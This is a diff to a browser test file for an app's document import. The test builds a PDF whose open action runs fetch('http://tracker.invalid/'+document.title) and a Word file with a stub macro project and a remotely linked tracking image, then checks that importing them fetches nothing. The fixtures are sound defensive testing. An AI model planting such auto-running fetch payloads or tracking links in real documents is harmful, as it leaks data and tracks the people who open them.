@@ -3,12 +3,19 @@ import fs from "node:fs";
 import os from "node:os";
 import path from "node:path";
 import { after, before, describe, it } from "node:test";
-import { zipSync } from "fflate";
+import { strToU8, unzipSync, zipSync } from "fflate";
+import { buildPdf } from "../convert/pdf-builder.ts";
 import type { Page } from "playwright-core";
 import { startStaticServer } from "../../scripts/lib/static-server.ts";
 import type { StaticServer } from "../../scripts/lib/static-server.ts";
 import { ROOT, chartReady, serveBuiltApp } from "./server.ts";
-import { fixture, importOutcome, pickFiles, watchRequests } from "./import-helpers.ts";
+import {
+  IMPORT_FIXTURES,
+  fixture,
+  importOutcome,
+  pickFiles,
+  watchRequests,
+} from "./import-helpers.ts";
 
 const SHOTS = path.join(ROOT, "test-output", "screenshots");
 const app = serveBuiltApp({ outputs: [SHOTS] });
@@ -20,6 +27,39 @@ before(() => {
   fs.writeFileSync(
     path.join(scratch, "documents.zip"),
     zipSync({ "a.md": new TextEncoder().encode("# Director") }),
+  );
+  // A PDF that runs JavaScript when opened and links to a tracker; a Word file with macros and
+  // a picture linked from a tracker (as test/convert/bad-input.test.ts makes them).
+  fs.writeFileSync(
+    path.join(scratch, "actions.pdf"),
+    buildPdf({
+      pages: [["Position Title: Director, Data Services", "Reports To: Chief Data Officer"]],
+      openActionJavaScript: "fetch('http://tracker.invalid/'+document.title)",
+      linkUri: "http://tracker.invalid/click",
+    }),
+  );
+  const word = unzipSync(
+    new Uint8Array(
+      fs.readFileSync(path.join(IMPORT_FIXTURES, "docx/hc-director-strategic-planning.docx")),
+    ),
+  );
+  const decode = (bytes: Uint8Array | undefined) => new TextDecoder().decode(bytes);
+  const rels = decode(word["word/_rels/document.xml.rels"]).replace(
+    "</Relationships>",
+    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://tracker.invalid/pixel.png" TargetMode="External"/></Relationships>',
+  );
+  const picture =
+    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdX"/></v:shape></w:pict></w:r></w:p>';
+  fs.writeFileSync(
+    path.join(scratch, "macros.docx"),
+    zipSync({
+      ...word,
+      "word/_rels/document.xml.rels": strToU8(rels),
+      "word/document.xml": strToU8(
+        decode(word["word/document.xml"]).replace("<w:body>", `<w:body>${picture}`),
+      ),
+      "word/vbaProject.bin": new Uint8Array(2048).fill(7),
+    }),
   );
 });
 after(() => fs.rmSync(scratch, { recursive: true, force: true }));
@@ -79,6 +119,24 @@ describe("bad files, in the browser", () => {
     assert.match(french.find((p) => p.startsWith("documents.zip ")) ?? "", /archive zip/);
     await page.screenshot({ path: path.join(SHOTS, "import-bad-files-fr.png") });
     await page.close();
+  });
+
+  it("a PDF with a JavaScript action and a link, and a Word file with macros and a linked picture, fetch nothing", async () => {
+    const context = await app.browser.newContext({ viewport: { width: 1366, height: 768 } });
+    const requests = watchRequests(context, app.preview.url.replace(/\/$/, ""));
+    const page = await context.newPage();
+    const dialogs: string[] = [];
+    page.on("dialog", (d) => void d.dismiss().then(() => dialogs.push(d.message())));
+    await page.goto(app.preview.url);
+    await chartReady(page);
+    await pickFiles(page, [path.join(scratch, "actions.pdf"), path.join(scratch, "macros.docx")]);
+    assert.match(await importOutcome(page), /^Read 2 files/);
+    await page.getByRole("group", { name: /^Director, Data Services/ }).waitFor();
+    await page.getByRole("group", { name: /^Director, Strategic Planning/ }).waitFor();
+    assert.deepEqual(requests.outside(), []);
+    assert.ok(!requests.all.some((url) => url.includes("tracker.invalid")));
+    assert.deepEqual(dialogs, []);
+    await context.close();
   });
 
   it("when the browser cannot keep data, it says so and the chart still works for the session", async () => {
